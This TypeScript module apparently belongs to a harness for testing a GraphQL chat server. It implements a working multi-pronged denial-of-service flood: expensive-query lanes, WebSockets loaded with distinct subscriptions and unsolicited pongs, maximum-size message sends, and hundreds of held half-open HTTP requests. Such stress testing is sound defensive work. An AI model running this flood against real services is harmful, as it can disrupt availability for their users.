import { randomUUID } from 'node:crypto'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { type Caller, sendAttack } from './operations/send-attack.ts'
import type { Attack } from './operations/write-operation.ts'
import { largestText, type World } from './target/world.ts'

/** How often something of the attack was let through, and how often it was turned away, by how it ended. */
export type FloodCounts = Record<string, number>

export interface FloodOptions {
  caller: Caller
  world: World
  /** The most expensive operations that are known. */
  worst: Attack[]
  signal: AbortSignal
}

const lanes = 16
const sockets = 40
const subscriptionsPerSocket = 60
const halfRequests = 500

/** One account at one address does everything at once that a client can do, until the signal aborts; then it lets go of everything. */
export async function flood({ caller, world, worst, signal }: FloodOptions): Promise<FloodCounts> {
  const counts: FloodCounts = {}
  const note = (what: string) => {
    counts[what] = (counts[what] ?? 0) + 1
  }
  await Promise.all([
    ...Array.from({ length: lanes }, (_, lane) => askWorst({ caller, worst, signal, lane, note })),
    ...Array.from({ length: sockets }, (_, index) => followDifferently({ caller, world, signal, index, note })),
    sendLargest({ caller, world, signal, note }),
    holdHalfRequests({ caller, signal, note }),
  ])
  return counts
}

type Part = Pick<FloodOptions, 'caller' | 'signal'> & { note(what: string): void }

/** Sends the most expensive operations one after the other. */
async function askWorst({ caller, worst, signal, lane, note }: Part & { worst: Attack[]; lane: number }) {
  for (let turn = lane; !signal.aborted && worst.length > 0; turn += 1) {
    const attack = worst[turn % worst.length] as Attack
    const { ended } = await sendAttack(attack, caller)
    note(`operation ${ended}`)
    // Who was turned away tries again a little later: an attacker whose own machine is busy attacks nobody.
    if (ended !== '200' && ended !== 'next') await pause(20)
  }
}

/** Opens a socket with many subscriptions, each of which differs from all others, and answers pings that nobody sent. */
async function followDifferently({ caller, world, signal, index, note }: Part & { world: World; index: number }) {
  while (!signal.aborted) {
    const ended = await followOnce({ caller, world, signal, index, note })
    note(`socket ${ended}`)
    await pause(200)
  }
}

function followOnce(options: Part & { world: World; index: number }): Promise<string> {
  const { caller, world, signal, index, note } = options
  const { url, accessToken, localAddress } = caller
  const socket = new WebSocket(`${url.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws', {
    ...(localAddress && { localAddress }),
  })
  const { promise, resolve } = Promise.withResolvers<string>()
  const end = (ended: string) => {
    clearInterval(ponging)
    signal.removeEventListener('abort', stop)
    socket.terminate()
    resolve(ended)
  }
  const stop = () => end('let go')
  signal.addEventListener('abort', stop)
  const ponging = setInterval(() => {
    for (let count = 0; count < 50 && socket.readyState === socket.OPEN; count += 1) socket.pong(Buffer.alloc(125))
  }, 100)
  socket.on('error', (error) => end((error as Error & { code?: string }).code ?? error.message))
  socket.on('close', (code) => end(String(code)))
  socket.on('open', () => {
    const payload = { authorization: `Bearer ${accessToken}` }
    socket.send(JSON.stringify({ type: 'connection_init', payload }))
  })
  socket.on('message', (frame: Buffer) => {
    const type = /"type":"(\w+)"/.exec(frame.subarray(0, 200).toString())?.[1]
    if (type === 'error') note('subscription refused')
    if (type !== 'connection_ack') return
    for (let id = 0; id < subscriptionsPerSocket; id += 1) {
      const roomId = world.rooms[id % 3]
      const query = `subscription { roomEvents(roomId: "${roomId}") { ... on RoomSnapshot { messages { s${index}x${id}: text sender { displayName } } }
        ... on MessageSent { message { a${index}x${id}: text sender { displayName } } } } }`
      socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload: { query } }))
    }
  })
  return promise
}

async function sendLargest({ caller, world, signal, note }: Part & { world: World }) {
  const query = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { duplicate } }'
  while (!signal.aborted) {
    const input = { roomId: world.rooms[0], text: largestText, clientMessageId: randomUUID() }
    const knobs = { root: 'query', transport: 'http' } as const
    const { ended } = await sendAttack({ query, variables: { input }, operationName: undefined, knobs }, caller)
    note(`send ${ended}`)
    await pause(50)
  }
}

/** Keeps connections open that never finish their request. */
async function holdHalfRequests({ caller, signal, note }: Part) {
  const { hostname, port } = new URL(caller.url)
  const { localAddress } = caller
  const held = new Set<ReturnType<typeof connect>>()
  while (!signal.aborted) {
    while (held.size < halfRequests) {
      const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
      held.add(socket)
      socket.on('error', () => {})
      socket.on('close', () => {
        held.delete(socket)
        note('half-request closed')
      })
      socket.on('data', () => {})
      socket.write('POST /graphql HTTP/1.1\r\nhost: a\r\n')
    }
    await pause(200)
  }
  for (const socket of held) socket.destroy()
}
